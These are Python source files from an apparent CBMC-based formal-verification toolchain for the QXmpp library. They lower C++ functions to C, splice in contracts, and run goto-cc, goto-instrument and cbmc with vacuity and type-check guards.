    p = subprocess.run(cmd, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    if p.returncode != 0:
        raise NativeError('driver does not compile against the working tree: ' + p.stdout[-3000:])
    env = dict(os.environ, QT_QPA_PLATFORM='offscreen')
    p = subprocess.run([exe] + list(args), input=stdin, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, timeout=timeout, env=env)
    return p.returncode, p.stdout
