"""Shared lowering rules for units that use opaque strings and the abstract DOM (qtmodel/opaque.h)."""
import re
from .cxx2c import Profile, StringTable

TYPES = {'QString': 'qstr', 'QStringView': 'qstr', 'QLatin1String': 'qstr', 'QDomElement': 'qdom', 'QDomNode': 'qdom',
         'QDomNodeList': 'qnodelist', 'QRegularExpression': 'qstr', 'QRegularExpressionMatch': 'qrematch', 'QChar': 'qstr'}
# QT_USE_QSTRINGBUILDER: a + b on strings has a QStringBuilder<...> type; it is the (opaque) concatenation
TYPE_PATTERNS = [(re.compile(r'QStringBuilder<.*>(::ConvertTo)?'), 'qstr'), (re.compile(r'char16_t\[\d+\]'), 'qstr')]

CALLS = {
    'op==:qstr:qstr': ('expr', '{0} == {1}'),
    'op!=:qstr:qstr': ('expr', '{0} != {1}'),
    'qstr::isEmpty/0': ('expr', '{0} == 0'),
    'qstr::isNull/0': ('expr', '{0} == 0'),
    'qstr::size/0': ('fn', 'qstr_size'), 'qstr::length/0': ('fn', 'qstr_size'), 'qstr::count/0': ('fn', 'qstr_size'),
    'qstr::startsWith/1': ('fn', 'qstr_startsWith'),
    'qstr::contains/1': ('fn', 'qstr_contains'),
    'qstr::toString/0': ('arg', 0),
    'qdom::tagName/0': ('fn', 'qdom_tagName'),
    'qdom::namespaceURI/0': ('fn', 'qdom_namespaceURI'),
    'qdom::attribute/1': ('fn', 'qdom_attribute'),
    'qdom::hasAttribute/1': ('fn', 'qdom_hasAttribute'),
    'qdom::text/0': ('fn', 'qdom_text'),
    'qdom::isNull/0': ('expr', '{0} == 0'),
    # QDomElement's own member forms (no namespace filter)
    'qdom::firstChildElement/0': ('expr', 'qdom_firstChildElement({0}, 0, 0)'),
    'qdom::firstChildElement/1': ('expr', 'qdom_firstChildElement({0}, {1}, 0)'),
    'qdom::nextSiblingElement/0': ('expr', 'qdom_nextSiblingElement({0}, 0, 0)'),
    'qdom::nextSiblingElement/1': ('expr', 'qdom_nextSiblingElement({0}, {1}, 0)'),
    'fn:firstChildElement/3': ('fn', 'qdom_firstChildElement'),
    'fn:firstChildElement/2': ('expr', 'qdom_firstChildElement({0}, {1}, 0)'),
    'fn:firstChildElement/1': ('expr', 'qdom_firstChildElement({0}, 0, 0)'),
    'fn:nextSiblingElement/3': ('fn', 'qdom_nextSiblingElement'),
    'fn:nextSiblingElement/2': ('expr', 'qdom_nextSiblingElement({0}, {1}, 0)'),
    'fn:nextSiblingElement/1': ('expr', 'qdom_nextSiblingElement({0}, 0, 0)'),
    'fn:move/1': ('arg', 0),
    # string concatenation and regular expressions: uninterpreted (qtmodel/opaque.h)
    'op+:qstr:qstr': ('fn', 'qstr_concat'),
    'qstr::operator QString/0': ('arg', 0),
    'qstr::arg/1': ('fn', 'qstr_concat'),
    'fn:anchoredPattern/1': ('fn', 'qstr_anchoredPattern'),
    'fn:escape/1': ('fn', 'qstr_regexEscape'),
    'qstr::match/1': ('fn', 'qstr_regexMatch'),
    'qrematch::hasMatch/0': ('expr', '{0} != 0'),
    # QXmppUtils JID helpers as uninterpreted functions with their idempotence axioms (qtmodel/opaque.h)
    'qstr::compare/2': ('fn', 'qstr_compare_cs'),
    'fn:jidToBareJid/1': ('fn', 'qstr_jidToBareJid'),
    'fn:jidToResource/1': ('fn', 'qstr_jidToResource'),
    'fn:jidToDomain/1': ('fn', 'qstr_jidToDomain'),
    'fn:jidToUser/1': ('fn', 'qstr_jidToUser'),
    'qstr::toLower/0': ('fn', 'qstr_toLower'),
    'qstr::trimmed/0': ('fn', 'qstr_trimmed'),
    'qstr::endsWith/1': ('fn', 'qstr_endsWith'),
    '*::debug/1': ('drop',), '*::info/1': ('drop',), '*::warning/1': ('drop',),
    'fn:qWarning': ('drop',), 'fn:qDebug': ('drop',),
}


def opaque_profile(types=None, class_types=None, calls=None, **kw):
    t = dict(TYPES)
    t.update(types or {})
    c = dict(CALLS)
    c.update(calls or {})
    p = Profile(types=t, class_types=class_types or set(), calls=c, literal_ids=StringTable(), string_types={'qstr'},
                default_args={'qstr': '0'}, **kw)
    p.type_patterns = list(TYPE_PATTERNS)
    return p
