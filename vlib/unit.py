"""Shared machinery of a verification unit: extract -> lower -> splice -> assemble C -> proofs."""
import os, re, hashlib
from . import astx, ctx, configure
from .cxx2c import Lowerer, Profile, Unsupported, apply_splices, StringTable, LoopMismatch

# functions whose loop structure no longer matches the unit's loop contracts (restructured code): their proof is replaced by a
# bounded search for a postcondition violation (vlib/check.py); a pass of that search is UNDECIDED, never a pass
LOOP_MISMATCH = {}
from .runner import Proof, ToolError

REPO = configure.REPO
VERIF = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))


class Target:
    def __init__(self, src, filt, name, cname, this=None, nparams=None, sig=None, parent=None, extra_flags=(), lowerer_cls=None, extra_params=()):
        self.src = os.path.join(REPO, src) if not os.path.isabs(src) else src
        self.rel = src
        self.filt = filt
        self.name = name
        self.cname = cname
        self.this = this
        self.nparams = nparams
        self.sig = sig
        self.parent = parent
        self.extra_flags = tuple(extra_flags)
        self.lowerer_cls = lowerer_cls or Lowerer
        self.extra_params = extra_params


class Spec:
    """contract text of one function: [contract] clause block and [loopN] blocks, with labelled clauses.
    File format:   ## contract            (then __CPROVER_requires/ensures/assigns lines; `//: label` names the next ensures)
                   ## loop 0              (then __CPROVER_assigns/loop_invariant/decreases lines)"""

    def __init__(self, text):
        self.contract = ''
        self.loops = {}
        self.labels = []   # ensures labels in order
        self.inv_labels = {}  # loop -> [labels]
        cur = None
        buf = []

        def close():
            nonlocal buf, cur
            if cur == 'contract':
                self.contract = '\n'.join(buf)
            elif isinstance(cur, int):
                self.loops[cur] = '\n'.join(buf)
            buf = []
        pending = None
        for line in text.splitlines():
            m = re.match(r'##\s*(contract|loop\s+(\d+))\s*$', line)
            if m:
                close()
                cur = 'contract' if m.group(1) == 'contract' else int(m.group(2))
                continue
            m = re.match(r'\s*//:\s*(\S+)', line)
            if m:
                pending = m.group(1)
                continue
            if cur is None:
                continue
            if re.match(r'\s*__CPROVER_ensures', line):
                self.labels.append(pending or 'post.%d' % (len(self.labels) + 1))
                pending = None
            if re.match(r'\s*__CPROVER_loop_invariant', line) and isinstance(cur, int):
                self.inv_labels.setdefault(cur, []).append(pending or 'inv.%d' % (len(self.inv_labels.get(cur, [])) + 1))
                pending = None
            buf.append(line)
        close()


class Builder:
    def __init__(self, uid, work, profile):
        self.uid = uid
        self.work = work
        self.profile = profile
        self.functions = []     # evidence: functions under contract
        self.dropped = []
        self.fired = {}
        self.need_enums = {}
        self.need_globals = {}
        self.specs = {}
        os.makedirs(work, exist_ok=True)

    def spec(self, fname):
        path = os.path.join(VERIF, 'units', self.uid, fname)
        return Spec(self.subst(open(path).read()))

    def subst(self, text):
        """S("literal") in unit-owned text -> the opaque id of that literal in this run's string table"""
        tab = self.profile.literal_ids
        if tab is None:
            return text
        return re.sub(r'\bS\("((?:[^"\\]|\\.)*)"\)', lambda m: '(%s)' % tab.cexpr(m.group(1)), text)

    def lower(self, tgt, spec=None, contract_only=False, keep_markers=False):
        """lowered C text of the real function with the unit's contract spliced in"""
        # a unit may hand over the declaration itself (e.g. the instantiated operator() of a continuation lambda that it
        # located inside another function's AST); it must come from the same extraction (tgt.decl is an astx node)
        d = getattr(tgt, 'decl', None) or astx.find_function(tgt.src, tgt.filt, tgt.name, tgt.nparams, tgt.sig, tgt.extra_flags, tgt.parent)
        lw = tgt.lowerer_cls(d, tgt.cname, self.profile, this_type=tgt.this)
        lw.source_files = [tgt.src] + list(getattr(tgt, 'more_sources', []))
        lw.extra_flags = tgt.extra_flags
        try:
            helpers = []
            for _attempt in range(6):
                try:
                    text = lw.lower(tgt.extra_params)
                    break
                except Unsupported as e0:
                    # a call of a file-static / free repository function the unit has no rule for (e.g. a helper a refactoring
                    # extracted): lower that function from the same TU as well, place it before this one, and try again
                    m = re.search(r'call fn:(\w+)/(\d+)$', str(e0))
                    mm = re.search(r'call ([A-Za-z_]\w*)::([A-Za-z_]\w*)/(\d+)$', str(e0)) if not m else None
                    if (not m and not mm) or getattr(tgt, 'no_auto_callees', False):
                        raise
                    if mm:
                        # a member function of a repository class the unit models (e.g. a private helper a refactoring extracted)
                        hcls, hname, hn = mm.group(1), mm.group(2), int(mm.group(3))
                        if hcls not in self.profile.class_types:
                            raise e0
                        try:
                            hd = astx.find_function(tgt.src, hcls + '::' + hname, hname, nparams=hn, extra_flags=tgt.extra_flags)
                        except astx.ExtractError:
                            raise e0
                        if hd.get('kind') != 'CXXMethodDecl' or not _decl_in_repo(hd, tgt.src):
                            raise e0
                        hc = 'auto_%s_%s' % (hcls, hname)
                        ht = Target(tgt.rel, hcls + '::' + hname, hname, hc, this=hcls, nparams=hn, extra_flags=tgt.extra_flags)
                        ht.decl = hd
                        ht.lowerer_cls = tgt.lowerer_cls
                        ht.more_sources = list(getattr(tgt, 'more_sources', []))
                        helpers.append(self._lower_helper(ht, hc))
                        self.profile.calls['%s::%s/%d' % (hcls, hname, hn)] = ('calleeret' if self.last.ret_class else 'callee', hc)
                        self.auto_callees = getattr(self, 'auto_callees', []) + [{'function': hcls + '::' + hname, 'for': tgt.cname}]
                        lw = tgt.lowerer_cls(d, tgt.cname, self.profile, this_type=tgt.this)
                        lw.source_files = [tgt.src] + list(getattr(tgt, 'more_sources', []))
                        lw.extra_flags = tgt.extra_flags
                        continue
                    hname, hn = m.group(1), int(m.group(2))
                    try:
                        hd = astx.find_function(tgt.src, hname, hname, nparams=hn, extra_flags=tgt.extra_flags)
                    except astx.ExtractError:
                        raise e0
                    if hd.get('kind') != 'FunctionDecl' or not _decl_in_repo(hd, tgt.src):
                        raise e0
                    hc = 'auto_' + hname
                    ht = Target(tgt.rel, hname, hname, hc, nparams=hn, extra_flags=tgt.extra_flags)
                    ht.decl = hd
                    ht.lowerer_cls = tgt.lowerer_cls
                    ht.more_sources = list(getattr(tgt, 'more_sources', []))
                    helpers.append(self._lower_helper(ht, hc))
                    self.profile.calls['fn:%s/%d' % (hname, hn)] = ('calleeret' if self.last.ret_class else 'callee', hc)
                    self.auto_callees = getattr(self, 'auto_callees', []) + [{'function': hname, 'for': tgt.cname}]
                    lw = tgt.lowerer_cls(d, tgt.cname, self.profile, this_type=tgt.this)
                    lw.source_files = [tgt.src] + list(getattr(tgt, 'more_sources', []))
                    lw.extra_flags = tgt.extra_flags
            else:
                raise Unsupported('too many unknown helper functions')
            # local lambdas lifted to C functions (cxx2c.lift_local_lambda): the unit places `builder.lifted` before the function bodies
            self.lifted = getattr(self, 'lifted', [])
            self.lifted.extend(getattr(lw, 'lifted', []))
        except Unsupported as e:
            raise Unsupported('%s (%s:%s): %s' % (tgt.name, tgt.rel, astx.src_range(d)[0], e))
        for k, v in lw.fired.items():
            self.fired[k] = self.fired.get(k, 0) + v
        for dr in lw.dropped:
            self.dropped.append(dict(dr, function=tgt.cname))
        for et, names in lw.need_enums.items():
            self.need_enums.setdefault((tgt.src, tgt.extra_flags), {}).setdefault(et, set()).update(names)
        for g, rd in lw.need_globals.items():
            self.need_globals.setdefault((tgt.src, tgt.extra_flags), {})[g] = rd
        b, e = astx.src_range(d)
        if spec is not None:
            try:
                text = apply_splices(text, spec.contract, spec.loops)
            except LoopMismatch as lm:
                LOOP_MISMATCH[tgt.cname] = str(lm)
                text = apply_splices(text, spec.contract, {})
        text = re.sub(r'/\*@(CONTRACT|LOOP\d+)@\*/\n?', '', text) if not keep_markers else text
        self.functions.append({'function': tgt.parent + '::' + tgt.name if tgt.parent else (tgt.this + '::' + tgt.name if tgt.this else tgt.name),
                               'cname': tgt.cname, 'file': tgt.rel, 'lines': [b, e], 'ast_hash': astx.node_hash(d),
                               'lowered_c_sha': hashlib.sha256((text + ''.join(getattr(lw, 'lifted', []))).encode()).hexdigest()[:16], 'loops': lw.loops,
                               'rules_fired': len(lw.fired), 'calls_dropped': len(lw.dropped),
                               'locals': sorted(set(lw.names) - set(getattr(lw, 'param_names', ())))})
        self.last = lw
        # a helper that was auto-lowered for an earlier target and is called here through the rule registered then
        for hc_, ht_ in getattr(self, 'helper_texts', {}).items():
            if hc_ in lw.repo_callees and ht_ not in helpers and hc_ != tgt.cname:
                helpers.append(ht_)
        if helpers:
            text = '\n'.join(helpers) + '\n/*@END-HELPERS@*/\n' + text
        return text

    def _lower_helper(self, ht, hc):
        """lowered text of an auto-lowered helper, preceded by the helpers it calls itself (nesting is bounded by the
        attempt counter of lower()); every single function text is remembered so that a TU keeps one copy of each"""
        depth = getattr(self, '_helper_depth', 0)
        if depth >= 4:
            raise Unsupported('helper functions nested deeper than 4')
        self._helper_depth = depth + 1
        try:
            t = self.lower(ht)
        finally:
            self._helper_depth = depth
        pre, body = t.split('/*@END-HELPERS@*/\n', 1) if '/*@END-HELPERS@*/\n' in t else ('', t)
        own = 'static ' + body
        self.helper_units = getattr(self, 'helper_units', [])
        if own not in self.helper_units:
            self.helper_units.append(own)
        self.helper_texts = getattr(self, 'helper_texts', {})
        self.helper_texts[hc] = pre + own
        return self.helper_texts[hc]

    def prototype(self, text, keep_ensures=None):
        """declaration (signature + contract) of a lowered function, for callers that use it through its contract.
        keep_ensures=N keeps only the first N ensures clauses: a WEAKER view of the very contract the function is verified
        against (dropping guarantees is sound for the caller's proof; used where the caller does not need the rest)."""
        if '/*@END-HELPERS@*/\n' in text:
            text = text.split('/*@END-HELPERS@*/\n', 1)[1]
        i = text.index('\n{')
        head = text[:i]
        if keep_ensures is not None:
            out = []
            k = 0
            for line in head.split('\n'):
                if re.match(r'\s*__CPROVER_ensures', line):
                    k += 1
                    if k > keep_ensures:
                        continue
                out.append(line)
            head = '\n'.join(out)
        return head + ';\n'

    def context(self):
        """enum constants and namespace-scope constants the lowered functions refer to, extracted from the same TUs"""
        out = []
        seen_enums = set()
        for (src, xf), enums in self.need_enums.items():
            # the same enum may be referred to from several TUs: define it once
            todo = {et: names for et, names in enums.items() if et not in seen_enums}
            seen_enums.update(todo)
            if todo:
                out.append(ctx.emit_enums(src, todo, xf))
        done = set()
        pending = [(k, g, rd) for k, gs in self.need_globals.items() for g, rd in gs.items()]
        while pending:
            (src, xf), g, rd = pending.pop(0)
            if g in done:
                continue
            done.add(g)
            text, lw = ctx.global_const(src, g, self.profile, xf)
            for et, names in lw.need_enums.items():
                out.insert(0, ctx.emit_enums(src, {et: names}, xf))
            for g2, rd2 in lw.need_globals.items():
                if g2 not in done:
                    pending.append(((src, xf), g2, rd2))
                    # dependency first
                    out.append('/* %s depends on %s */' % (g, g2))
            out.append(text)
        # order: definitions that others depend on must come first -> simple topological fix: constants without
        # dependencies first
        defs = [o for o in out if not o.startswith('/*')]
        return '\n'.join(_toposort(defs))

    def write(self, name, text):
        path = os.path.join(self.work, name)
        # an auto-lowered helper travels with every function that calls it; a TU that holds several of those keeps one copy
        for ht in getattr(self, 'helper_units', []):
            i = text.find(ht)
            if i >= 0:
                text = text[:i + len(ht)] + text[i + len(ht):].replace(ht + '\n', '').replace(ht, '')
        with open(path, 'w') as f:
            f.write(text)
        return path


def _decl_in_repo(d, src):
    """true if the declaration's location is in the TU's main file or another file under the repository (not a system header)"""
    loc = d.get('loc', {})
    for k in ('expansionLoc', 'spellingLoc'):
        if k in loc:
            loc = loc[k]
            break
    f = loc.get('file') or (d.get('range', {}).get('begin', {}).get('file'))
    if f is None:
        return True     # clang omits 'file' when it equals the previously printed one: a filtered dump starts in the main file
    return os.path.realpath(f).startswith(os.path.realpath(REPO) + os.sep)


def _toposort(defs):
    names = []
    for d in defs:
        m = re.match(r'static const [\w ]+?(\w+)(\[\d+\])? = ', d)
        names.append(m.group(1) if m else None)
    out = []
    placed = set()
    remaining = list(zip(names, defs))
    for _ in range(len(defs) + 1):
        nxt = []
        for nm, d in remaining:
            body = d.split('=', 1)[1] if '=' in d and nm else ''
            deps = [n for n in names if n and n != nm and re.search(r'\b%s\b' % re.escape(n), body)]
            if all(dep in placed for dep in deps):
                out.append(d)
                if nm:
                    placed.add(nm)
            else:
                nxt.append((nm, d))
        remaining = nxt
        if not remaining:
            break
    out.extend(d for _, d in remaining)
    return out


def scan_assumes(text):
    """mechanical scan for assumptions in unit-owned text (reported in the evidence)"""
    return sorted(set(m.group(0)[:120] for m in re.finditer(r'__CPROVER_assume\([^;]*;', text)))
