"""goto-cc -> goto-instrument --dfcc -> cbmc.  One `Proof` = one enforced contract (or one lemma harness)."""
import json, os, re, subprocess, time, resource, hashlib

CBMC_FLAGS = ['--bounds-check', '--pointer-check', '--signed-overflow-check', '--div-by-zero-check', '--undefined-shift-check',
              '--pointer-primitive-check']
MEM_KB = int(os.environ.get('VERIF_CBMC_MEM_KB', str(24 * 1024 * 1024)))


class ToolError(Exception):
    """exit 2: the tool chain, not QXmpp, is at fault"""
    pass


def _limits():
    resource.setrlimit(resource.RLIMIT_AS, (MEM_KB * 1024, MEM_KB * 1024))


OUT_CAP = 400 * 1024 * 1024


def _run(cmd, timeout, cwd=None):
    """run a tool with a time limit, an address-space limit and a cap on the output that is read back"""
    import tempfile
    t0 = time.time()
    with tempfile.TemporaryFile() as fo, tempfile.TemporaryFile() as fe:
        try:
            p = subprocess.run(cmd, stdout=fo, stderr=fe, timeout=timeout, cwd=cwd, preexec_fn=_limits)
            rc = p.returncode
        except subprocess.TimeoutExpired:
            rc = 'timeout'
        fo.seek(0, 2)
        if fo.tell() > OUT_CAP:
            return 'toolarge', '', 'tool output of %d bytes exceeds the cap' % fo.tell(), time.time() - t0
        fo.seek(0)
        fe.seek(0)
        return rc, fo.read().decode('utf-8', 'replace'), fe.read(OUT_CAP).decode('utf-8', 'replace'), time.time() - t0


def _strip_clauses(txt):
    """remove __CPROVER_requires/ensures/assigns/loop_invariant/decreases/frees(...) clauses (balanced parentheses) from preprocessed C"""
    out = []
    i = 0
    pat = re.compile(r'__CPROVER_(requires|ensures|assigns|loop_invariant|decreases|frees)\s*\(')
    while True:
        m = pat.search(txt, i)
        if not m:
            out.append(txt[i:])
            break
        out.append(txt[i:m.start()])
        j = m.end()
        depth = 1
        while j < len(txt) and depth:
            c = txt[j]
            if c == '(':
                depth += 1
            elif c == ')':
                depth -= 1
            j += 1
        i = j
    return ''.join(out)


def typecheck(cfile, include_dirs=(), defines=()):
    """goto-cc accepts int <-> pointer mix-ups and mismatched argument lists silently (C); the generated C is therefore
    first preprocessed, stripped of its contract clauses and compiled with a strict ordinary compiler, so that a lowering
    slip is a tool error (exit 2) and never a wrong proof.  Returns None or an error text."""
    import tempfile
    inc = []
    for d in include_dirs:
        inc += ['-I', d]
    dd = ['-D' + d for d in defines]
    p = subprocess.run(['gcc', '-std=gnu11', '-E', '-P', '-w', '-DVERIF_CBMC'] + inc + dd + [cfile], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    if p.returncode != 0:
        return None   # goto-cc will report the real problem
    txt = _strip_clauses(p.stdout)
    pre = ('void __CPROVER_assert(_Bool, const char *); void __CPROVER_assume(_Bool); void __CPROVER_havoc_object(void *); void __CPROVER_cover(_Bool);\n'
           '_Bool __CPROVER_r_ok(const void *, unsigned long); _Bool __CPROVER_w_ok(const void *, unsigned long); _Bool __CPROVER_rw_ok(const void *, unsigned long);\n'
           'unsigned long __CPROVER_POINTER_OBJECT(const void *); long __CPROVER_POINTER_OFFSET(const void *); _Bool __CPROVER_same_object(const void *, const void *);\n')
    cmd = ['gcc', '-std=gnu11', '-fsyntax-only', '-w', '-Werror=int-conversion', '-Werror=incompatible-pointer-types',
           '-Werror=implicit-function-declaration', '-Werror=return-type', '-Werror=implicit-int', '-x', 'c', '-']
    p = subprocess.run(cmd, input=pre + txt, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    if p.returncode != 0:
        errs = [l for l in p.stdout.splitlines() if ' error: ' in l]
        real = [l for l in errs if not re.search(r'__CPROVER_', l)]
        if real:
            return '\n'.join(real[:8])
    return None


class Proof:
    """
    cfile    : generated C file (lowered real code + spliced contracts + models + harness)
    entry    : harness function
    enforce  : function whose contract is enforced (None for a lemma / loop-free harness that only uses contracts)
    replace  : callees replaced by their contracts
    kind     : 'contract' (unbounded, loops closed by loop contracts) | 'complete' (loop-free or constant-bound loops fully
               unwound with unwinding assertions) | 'bounded' (stated bound, never counted as proved)
    """

    def __init__(self, pid, cfile, entry, enforce=None, replace=(), kind='contract', unwind=None, unwindset=(), flags=(), timeout=900,
                 solver=('--sat-solver', 'cadical'), object_bits=12, defines=(), loop_contracts=True, expect_loops=0, note='', bound_text='',
                 no_std_checks=False, include_dirs=()):
        self.id = pid
        self.cfile = cfile
        self.entry = entry
        self.enforce = enforce
        self.replace = list(replace)
        self.kind = kind
        self.unwind = unwind
        self.unwindset = list(unwindset)
        self.flags = list(flags)
        self.timeout = timeout
        self.solver = list(solver)
        self.object_bits = object_bits
        self.defines = list(defines)
        self.loop_contracts = loop_contracts
        self.expect_loops = expect_loops
        self.note = note
        self.bound_text = bound_text
        self.no_std_checks = no_std_checks
        self.include_dirs = list(include_dirs)
        self.result = None

    def checker_cmd(self):
        gi = 'goto-instrument --dfcc %s' % self.entry
        if self.enforce:
            gi += ' --enforce-contract %s' % self.enforce
        for r in self.replace:
            gi += ' --replace-call-with-contract %s' % r
        if self.loop_contracts:
            gi += ' --apply-loop-contracts'
        cb = 'cbmc ' + ' '.join(self.solver + ([] if self.no_std_checks else CBMC_FLAGS) + self.flags)
        if self.unwind:
            cb += ' --unwind %d --unwinding-assertions' % self.unwind
        return 'goto-cc --function %s; %s; %s' % (self.entry, gi, cb)

    def run(self, workdir):
        t0 = time.time()
        base = os.path.join(workdir, re.sub(r'\W+', '_', self.id))
        a, b = base + '.a.gb', base + '.b.gb'
        res = {'id': self.id, 'entry': self.entry, 'enforce': self.enforce, 'replace': self.replace, 'kind': self.kind,
               'status': None, 'obligations': [], 'solver_time_s': 0.0, 'backend': 'cbmc-' + '-'.join(x.strip('-') for x in self.solver) if self.solver else 'cbmc-sat-minisat',
               'checker_cmd': self.checker_cmd(), 'bound': self.bound_text, 'note': self.note}
        self.result = res
        inc = []
        for d in self.include_dirs:
            inc += ['-I', d]
        # vacuity probe (every run): an assertion that MUST FAIL at the end of the harness.  If it is reported SUCCESS the end of
        # the harness is unreachable -- contradictory requires / assumptions, or a harness that cuts every path -- and every
        # other SUCCESS of this run would be vacuous: the run is then a tool error, not a pass.
        cfile = self.cfile
        res['vacuity_probe'] = 'not placed'
        if getattr(self, 'vacuity_probe', True) and not getattr(self, 'no_unwinding_assertions', False) and not os.environ.get('VERIF_NO_PROBE'):
            probed = _place_probe(open(self.cfile).read(), self.entry)
            if probed:
                cfile = base + '.probe.c'
                with open(cfile, 'w') as f:
                    f.write(probed)
                res['vacuity_probe'] = 'placed'
        if not os.environ.get('VERIF_NO_TYPECHECK'):
            terr = typecheck(cfile, self.include_dirs, self.defines)
            if terr:
                res['status'] = 'tool-error'
                res['detail'] = 'generated C does not type-check strictly (lowering slip, not a verdict): ' + terr
                return res
        rc, out, err, dt = _run(['goto-cc', '--function', self.entry, '-DVERIF_CBMC'] + ['-D' + d for d in self.defines] + inc + [cfile, '-o', a], 300)
        if rc != 0:
            res['status'] = 'tool-error'
            res['detail'] = 'goto-cc failed: ' + (err or out)[-3000:]
            return res
        replace = list(self.replace)
        while True:
            cmd = ['goto-instrument', '--dfcc', self.entry]
            if self.enforce:
                cmd += ['--enforce-contract', self.enforce]
            for r in replace:
                cmd += ['--replace-call-with-contract', r]
            if self.loop_contracts:
                cmd += ['--apply-loop-contracts']
            cmd += [a, b]
            rc, out, err, dt = _run(cmd, 600)
            # a callee contract whose function the changed code no longer calls is not in the binary: nothing to replace
            m = re.search(r"Function to replace '(\w+)' not found", out + err) if rc != 0 else None
            if m and m.group(1) in replace:
                replace.remove(m.group(1))
                res.setdefault('replace_not_called', []).append(m.group(1))
                continue
            break
        if rc != 0:
            res['status'] = 'tool-error'
            res['detail'] = 'goto-instrument failed: ' + (out + err)[-3000:]
            return res
        res['instrument_log'] = (out + err)[-2000:]
        cmd = ['cbmc', '--object-bits', str(self.object_bits)] + self.solver + ([] if self.no_std_checks else CBMC_FLAGS) + self.flags
        if self.unwind and getattr(self, 'no_unwinding_assertions', False):
            # bounded SEARCH: only the loops of the code under test are cut at the bound; the loops of the contract
            # instrumentation library must stay fully unwound, otherwise every path is cut and the search is vacuous
            rc2, out2, err2, _ = _run(['goto-instrument', '--show-loops', b], 300)
            ids = [m.group(1) for m in re.finditer(r'^Loop (\S+):', out2 or '', re.M)]
            ids = [i for i in ids if not i.startswith('__CPROVER')]
            for i in ids:
                # loops of auto-lowered helpers (typically small constant-bound loops over a digest, an id, a table) get a larger bound
                cmd += ['--unwindset', '%s:%d' % (i, 34 if i.startswith('auto_') or '__' in i.split('.')[0] else self.unwind)]
            cmd += ['--no-unwinding-assertions']
        elif self.unwind:
            cmd += ['--unwind', str(self.unwind), '--unwinding-assertions']
        for u in self.unwindset:
            cmd += ['--unwindset', u]
        if self.unwindset and not self.unwind:
            cmd += ['--unwinding-assertions']
        cmd += [b]
        self.cbmc_cmd = cmd
        # every unit states its proofs' time limits for a 16-core machine under its own load; a slower or busier machine gets the
        # stated factor on top (default 2): a limit reached on the unchanged tree would be an exit 2 that says nothing about qxmpp
        rc, out, err, dt = _run(cmd, int(self.timeout * float(os.environ.get('VERIF_TIMEOUT_SCALE', '2'))))
        res['solver_time_s'] = round(dt, 2)
        if not os.environ.get('VERIF_KEEP_GB'):
            for f in (a,):
                try:
                    os.unlink(f)
                except OSError:
                    pass
        self.gb = b
        if rc == 'toolarge':
            res['status'] = 'tool-error'
            res['detail'] = err
            return res
        if rc == 'timeout':
            res['status'] = 'timeout'
            res['detail'] = 'cbmc exceeded %ds' % int(self.timeout * float(os.environ.get('VERIF_TIMEOUT_SCALE', '2')))
            return res
        # plain-text result lines:  [name] line N description: STATUS     (the JSON UI builds a full trace per failed
        # property, gigabytes for large functions; traces are requested separately, per property, when needed)
        obligations = []
        warnings = []
        status = None
        curfn = None
        for line in out.splitlines():
            m = re.match(r'^\[([^\]]+)\] (?:line (\d+) )?(.*): (SUCCESS|FAILURE|UNKNOWN|ERROR)$', line)
            if m:
                obligations.append({'name': m.group(1), 'description': m.group(3), 'status': m.group(4), 'line': int(m.group(2)) if m.group(2) else None, 'function': curfn})
                continue
            m = re.match(r'^\S+ function (\S+)$', line)
            if m:
                curfn = m.group(1)
                continue
            if line.startswith('VERIFICATION SUCCESSFUL'):
                status = 'success'
            elif line.startswith('VERIFICATION FAILED'):
                status = 'failure'
            elif re.match(r'^(\*\*\*\* WARNING|warning:|WARNING)', line) or 'ignoring' in line:
                warnings.append(line.strip())
        for line in err.splitlines():
            if re.search(r'warning|ignoring|unsupported', line, re.I):
                warnings.append(line.strip())
        res['obligations'] = obligations
        res['warnings'] = [w for w in warnings if w][:20]
        if status is None:
            res['status'] = 'tool-error'
            res['detail'] = 'cbmc gave no verdict (rc=%s): %s' % (rc, ' | '.join(warnings)[-2000:] + err[-1000:])
            return res
        probe = [o for o in obligations if '[vacuity-probe]' in (o.get('description') or '')]
        if res.get('vacuity_probe') == 'placed':
            if not probe:
                res['vacuity_probe'] = 'lost'
            elif all(o['status'] == 'SUCCESS' for o in probe):
                res['status'] = 'tool-error'
                res['detail'] = 'vacuous: the end of the harness is unreachable (the assertion that must fail was reported SUCCESS) -- contradictory requires/assumptions'
                res['obligations'] = obligations
                return res
            else:
                res['vacuity_probe'] = 'reachable'
                obligations = [o for o in obligations if o not in probe]
                res['obligations'] = obligations
                if status == 'failure' and all(o['status'] == 'SUCCESS' for o in obligations):
                    status = 'success'
        # vacuity / silent-drop guards
        bad = [w for w in warnings if re.search(r'ignoring|unsupported|not supported', w, re.I)]
        if bad:
            res['status'] = 'tool-error'
            res['detail'] = 'verifier ignored part of the specification: ' + bad[0]
            return res
        if not obligations:
            res['status'] = 'tool-error'
            res['detail'] = 'no obligations generated (vacuous)'
            return res
        if self.loop_contracts and self.expect_loops:
            steps = {o['name'] for o in obligations if 'loop_invariant_step' in (o['name'] or '')}
            if len(steps) < 1:
                res['status'] = 'tool-error'
                res['detail'] = 'loop contract silently dropped (no loop_invariant_step obligation)'
                return res
        if status == 'success' and any(o['status'] != 'SUCCESS' for o in obligations):
            status = 'failure'
        res['status'] = 'pass' if status == 'success' else 'fail'
        res['wall_s'] = round(time.time() - t0, 2)
        return res


def _place_probe(text, entry):
    """text with `__CPROVER_assert(0, "[vacuity-probe] ...")` inserted before the closing brace of function `entry`; None if
    the definition cannot be located unambiguously"""
    ms = list(re.finditer(r'\bvoid\s+' + re.escape(entry) + r'\s*\(\s*(void)?\s*\)\s*\{', text))
    if len(ms) != 1:
        return None
    i = ms[0].end()
    depth = 1
    n = len(text)
    in_str = None
    while i < n and depth:
        c = text[i]
        if in_str:
            if c == '\\':
                i += 1
            elif c == in_str:
                in_str = None
        elif c in '"\'':
            in_str = c
        elif c == '/' and text[i:i + 2] == '/*':
            j = text.find('*/', i + 2)
            i = (j + 1) if j >= 0 else n
        elif c == '/' and text[i:i + 2] == '//':
            j = text.find('\n', i)
            i = j if j >= 0 else n
        elif c == '{':
            depth += 1
        elif c == '}':
            depth -= 1
            if depth == 0:
                break
        i += 1
    if depth != 0:
        return None
    return text[:i] + ' __CPROVER_assert(0, "[vacuity-probe] the end of the harness is reachable: this assertion must fail"); ' + text[i:]


